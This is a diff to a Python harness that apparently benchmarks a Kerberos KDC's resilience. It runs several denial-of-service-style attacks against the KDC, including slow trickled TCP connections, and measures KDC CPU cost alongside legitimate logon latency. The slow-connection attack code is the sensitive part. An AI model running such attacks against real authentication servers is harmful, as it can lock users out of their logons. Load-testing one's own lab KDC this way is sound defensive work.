@@ -51,14 +51,14 @@ def tcp_slow(a, stop, out):
         while len(conns) < a.slow:
             try:
                 c = connect(a, 2)
-                c.sendall(b"\x00")
+                c.sendall(struct.pack(">I", 1000))   # a 1000-byte request announced, then a byte every 2 s
                 conns.append((c, time.time()))
                 opened += 1
             except OSError:
                 break
         for c, t0 in list(conns):
             try:
-                c.sendall(b"\x00")
+                c.sendall(b"\x30")
             except OSError:
                 conns.remove((c, t0)); cut += 1; lifetimes.append(time.time() - t0); c.close()
         time.sleep(2)
@@ -166,38 +166,40 @@ if __name__ == "__main__":
     attacks = [udp_noise, tcp_slow, tcp_hold, tcp_oversize, nested] + ([impersonate] if A.lab else [])
     if A.cost_pid:
         tick = os.sysconf("SC_CLK_TCK")
-        start = time.time()
         def cpu_ms():
             f = open(f"/proc/{A.cost_pid}/stat").read().rsplit(")", 1)[1].split()
             return (int(f[11]) + int(f[12])) * 1000 / tick
-        before = cpu_ms()
-        quiet = []
-        if A.lab:
-            legit_logons(A, time.time() + A.cost_seconds - 2, quiet)
-        time.sleep(max(0.0, A.cost_seconds + 1 - (time.time() - start)))
-        # the KDC's own timers, GC and JIT, and bob's logons, over a window without attack: taken off each attack's
-        idle = cpu_ms() - before
-        ok = sorted(x for x in quiet if x is not None)
-        out["idle"] = {"kdc_cpu_ms": round(idle, 1), "legit_kinit_ms": {"logons": len(quiet),
-                       "median": ok[len(ok) // 2] if ok else None, "max": ok[-1] if ok else None}}
-        for f in attacks:
+        for _ in range(2):   # the first pass warms the KDC's JIT up on every path; the second is reported
+            start = time.time()
+            out.clear()
             before = cpu_ms()
-            latencies = []
+            quiet = []
             if A.lab:
-                t = threading.Thread(target=legit_logons, args=(A, time.time() + A.cost_seconds - 2, latencies))
-                t.start()
-            f(A, time.time() + A.cost_seconds, out)
-            if A.lab:
-                t.join(60)
-            time.sleep(1)
-            r = out[f.__name__]
-            ok = sorted(x for x in latencies if x is not None)
-            if A.lab:
-                r["legit_kinit_ms"] = {"logons": len(latencies), "failed": len(latencies) - len(ok),
-                                       "median": ok[len(ok) // 2] if ok else None, "max": ok[-1] if ok else None}
-            n = next(r[k] for k in ("sent", "tries", "opened", "attempted") if k in r)
-            r["kdc_cpu_ms"] = round(cpu_ms() - before - idle, 1)
-            r["kdc_cpu_ms_each"] = round(r["kdc_cpu_ms"] / max(1, n), 3)
+                legit_logons(A, time.time() + A.cost_seconds - 2, quiet)
+            time.sleep(max(0.0, A.cost_seconds + 1 - (time.time() - start)))
+            # the KDC's own timers, GC and JIT, and bob's logons, over a window without attack: taken off each attack's
+            idle = cpu_ms() - before
+            ok = sorted(x for x in quiet if x is not None)
+            out["idle"] = {"kdc_cpu_ms": round(idle, 1), "legit_kinit_ms": {"logons": len(quiet),
+                           "median": ok[len(ok) // 2] if ok else None, "max": ok[-1] if ok else None}}
+            for f in attacks:
+                before = cpu_ms()
+                latencies = []
+                if A.lab:
+                    t = threading.Thread(target=legit_logons, args=(A, time.time() + A.cost_seconds - 2, latencies))
+                    t.start()
+                f(A, time.time() + A.cost_seconds, out)
+                if A.lab:
+                    t.join(60)
+                time.sleep(1)
+                r = out[f.__name__]
+                ok = sorted(x for x in latencies if x is not None)
+                if A.lab:
+                    r["legit_kinit_ms"] = {"logons": len(latencies), "failed": len(latencies) - len(ok),
+                                           "median": ok[len(ok) // 2] if ok else None, "max": ok[-1] if ok else None}
+                n = next(r[k] for k in ("sent", "tries", "opened", "attempted") if k in r)
+                r["kdc_cpu_ms"] = round(cpu_ms() - before - idle, 1)
+                r["kdc_cpu_ms_each"] = round(r["kdc_cpu_ms"] / max(1, n), 3)
         print(json.dumps(out, indent=2))
         raise SystemExit(0)
     stop = time.time() + A.duration
